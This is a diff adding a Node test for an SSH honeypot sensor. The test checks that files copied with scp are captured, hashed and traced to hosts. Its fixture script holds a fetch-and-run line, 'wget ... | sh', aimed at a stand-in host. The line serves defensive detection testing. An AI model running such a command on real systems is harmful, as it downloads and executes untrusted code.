@@ -1,8 +1,9 @@
 /** OpenSSH's own programs against the SSH decoy, from the first guess to a file that is left. */
 import assert from 'node:assert/strict';
 import { type ChildProcessWithoutNullStreams, execFile, execFileSync, spawn } from 'node:child_process';
+import { createHash } from 'node:crypto';
 import { once } from 'node:events';
-import { chmodSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { chmodSync, mkdirSync, mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { after, before, describe, it } from 'node:test';
@@ -137,6 +138,31 @@ describe('the SSH decoy', { skip: without('ssh', 'sftp', 'ssh-keygen') }, () => 
     assert.equal(put.data?.path, '/tmp/first.sh');
     assert.deepEqual(put.norm.hosts, ['192.0.2.45']);
     assert.equal((put.data?.artefacts as { sha256: string }[])[0]?.sha256, put.raw.sha256);
+  });
+
+  it('files are copied by the old protocol of scp too, there and back, and kept as evidence', async () => {
+    const script = '#!/bin/sh\nwget -q http://192.0.2.46/third.sh -O- | sh\n';
+    mkdirSync(join(folder, 'kit/bin'), { recursive: true });
+    writeFileSync(join(folder, 'kit/run.sh'), script, { mode: 0o755 });
+    writeFileSync(join(folder, 'kit/bin/x'), Buffer.from([0, 1, 2, 255, 10, 13]));
+    const scp = (...args: readonly string[]) =>
+      call('scp', ['-O', '-i', join(folder, 'key'), `-P${sensor.port('ssh')}`, ...args]);
+    const there = await scp('-rp', join(folder, 'kit'), 'root@127.0.0.1:/tmp/');
+    assert.deepEqual(there, { code: 0, stdout: '', stderr: '' });
+    const { norm, data } = await sensor.event('ssh.exec.result', (one) =>
+      String(one.data?.command).startsWith('scp -r'),
+    );
+    assert.deepEqual(norm.hosts, ['192.0.2.46']);
+    const digest = createHash('sha256').update(script).digest('hex');
+    const left = data?.artefacts as { name: string; sha256: string }[];
+    assert.equal(left.find((one) => one.name === '/tmp/kit/run.sh')?.sha256, digest);
+    const back = await scp('-rp', 'root@127.0.0.1:/tmp/kit', join(folder, 'back'));
+    assert.deepEqual(back, { code: 0, stdout: '', stderr: '' });
+    assert.equal(readFileSync(join(folder, 'back/run.sh'), 'utf8'), script);
+    assert.equal(statSync(join(folder, 'back/run.sh')).mode & 0o777, 0o755);
+    assert.deepEqual(readFileSync(join(folder, 'back/bin/x')), Buffer.from([0, 1, 2, 255, 10, 13]));
+    const nowhere = await scp(join(folder, 'kit/run.sh'), 'root@127.0.0.1:/nowhere/x');
+    assert.deepEqual([nowhere.code, nowhere.stderr], [1, 'scp: /nowhere/x: No such file or directory\n']);
   });
 
   describe('a visitor who is cut off', () => {
